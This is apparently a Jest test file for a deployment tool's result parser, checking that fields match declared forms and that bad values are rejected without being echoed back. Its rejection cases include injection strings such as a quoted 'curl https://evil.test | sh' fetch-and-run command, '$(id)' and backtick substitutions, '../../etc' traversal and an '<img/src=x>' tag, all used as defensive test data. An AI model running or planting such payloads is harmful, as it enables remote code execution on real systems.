import { expect, test } from '@jest/globals';
import { part } from './part.ts';
import { defineProgram } from './define-program.ts';
import { parseResult } from './result.ts';
import { FORMS, type ResultForms, checkedFields } from './result-forms.ts';

const reference = { path: '/a', deploymentId: 'b', operation: 'deploy', number: 1, directory: '/a/b' };
const result = (fields: Readonly<Record<string, string>>, forms: ResultForms) =>
  parseResult(
    Buffer.from(
      Object.entries(fields)
        .map(([name, value]) => `${name} ${Buffer.byteLength(value)}\n${value}\n`)
        .join(''),
    ),
    reference,
    true,
    forms,
  );

test.each([
  ['id', 'x"; curl https://evil.test | sh'],
  ['id', '../../etc'],
  ['id', ''],
  ['share', 'green-100'],
  ['share', 'red'],
  ['flag', 'true\nfalse'],
  ['count', '-1'],
  ['count', '1e3'],
  ['difference', '1 2'],
  ['time', 'yesterday'],
  ['time', '2026-13-01T00:00:00Z'],
  ['services', 'api $(id)'],
  ['services', 'api\ndb'],
  ['serviceLines', 'api\n`id`'],
  ['images', 'api sha256:00 "x"'],
  ['path', 'relative'],
  ['path', '/a\nb'],
  ['line', 'a\nb'],
] as const)('%s: %j has not its form, is named and never quoted', (form, value) => {
  const read = () => result({ field: value }, { field: FORMS[form] });
  expect(read).toThrow('"field" in its result is not ');
  if (value.length > 3) expect(read).not.toThrow(value);
});

test.each([
  ['id', '20260101-120000-v1.2-ab12'],
  ['idOrNone', ''],
  ['share', 'green-25'],
  ['flag', 'false'],
  ['count', '0'],
  ['difference', '-3'],
  ['time', '2026-01-31T12:00:00Z'],
  ['services', ' api db_2 web.x '],
  ['services', ''],
  ['images', 'api registry.test:5000/shop/api@sha256:00 sha256:11\ndb\n'],
  ['path', '/srv/a b/$x'],
] as const)('%s: %j is taken as it is', (form, value) => {
  expect(result({ field: value }, { field: FORMS[form] }).fields).toEqual({ field: value });
});

test('what no part declares is not read, whatever its name', () => {
  expect(result({ known: 'true', other: 'x', constructor: 'x' }, { known: FORMS.flag }).fields).toEqual({
    known: 'true',
  });
});

test('a name with a star stands for all that begin so, but for the host’s own', () => {
  const forms = { 'copy_*': FORMS.count, '*': FORMS.text };
  expect(checkedFields({ copy_1: '1', plain: 'x', _kind: 'y' }, forms)).toEqual({ copy_1: '1', plain: 'x' });
  expect(() => checkedFields({ copy_1: 'one' }, forms)).toThrow(
    '"copy_1" in its result is not a whole number',
  );
});

test.each([
  [{ _outcome: 'perhaps' }, '_outcome'],
  [{ _outcome: 'succeeded', _elapsed: '12 h' }, '_elapsed'],
  [{ _outcome: 'succeeded', _phases: 'pull <img/src=x> 20\n' }, '_phases'],
])('the host’s own fields have forms too: %j', (fields, name) => {
  expect(() => result(fields, {})).toThrow(`"${name}" in its result is not `);
});

test('two parts of one program mean the same by one name', () => {
  const one = (name: string, form: ResultForms[string]) =>
    part(new URL(`file:///${name}.sh`), { results: { to: form } });
  expect(() => defineProgram({ name: 'both', parts: [one('a', FORMS.share), one('b', FORMS.id)] })).toThrow(
    'the program both has two forms of to',
  );
});
